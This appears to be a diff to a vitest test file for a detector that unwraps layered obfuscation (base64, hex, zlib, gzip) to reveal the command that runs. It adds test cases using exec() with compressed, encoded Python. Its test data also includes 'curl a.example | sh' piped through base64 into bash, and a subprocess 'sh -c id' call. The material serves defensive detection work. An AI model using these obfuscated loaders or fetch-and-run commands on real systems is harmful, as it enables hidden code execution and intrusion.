@@ -1,3 +1,4 @@
+import { deflateSync, gzipSync } from "node:zlib";
 import { describe, expect, test } from "vitest";
 import {
   base64Text,
@@ -11,6 +12,8 @@ import * as p from "../../harness/pickle.ts";
 
 const base64 = (text: string, encoding: BufferEncoding = "utf8") =>
   Buffer.from(text, encoding).toString("base64");
+
+const packed = (bytes: Buffer) => bytes.toString("base64");
 
 /** The layers and what runs, as one line; `-` before what any data may hold. */
 function followed(text: string): string | undefined {
@@ -43,6 +46,22 @@ describe("a command in a text is followed to what runs", () => {
     ],
     [`import base64\nexec(base64.b64decode(b"${base64(python)}"))`, `base64 > ${python}`],
     [`exec(bytes.fromhex("${Buffer.from(python).toString("hex")}"))`, `hex > ${python}`],
+    [
+      `import zlib; exec(zlib.decompress(base64.b64decode("${packed(deflateSync(python))}")))`,
+      `base64 → zlib > ${python}`,
+    ],
+    [
+      `import gzip; exec(gzip.decompress(base64.b64decode("${packed(gzipSync(python))}")))`,
+      `base64 → gzip > ${python}`,
+    ],
+    [
+      `import zlib; exec(zlib.decompress(base64.b64decode("${packed(deflateSync(base64(python)))}")))`,
+      `base64 → zlib > ${python}`,
+    ],
+    [
+      `import zlib; exec(zlib.decompress(bytes.fromhex("${deflateSync(deflateSync(python)).toString("hex")}")))`,
+      `hex → zlib → zlib > ${python}`,
+    ],
     [`import subprocess; subprocess.run(["sh", "-c", "id"])`, "sh -c > id"],
     [`echo ${base64("curl a.example | sh")} | base64 -d | bash`, "base64 | bash > curl a.example | sh"],
     [base64("curl a.example/x | sh"), "base64 > curl a.example/x | sh"],
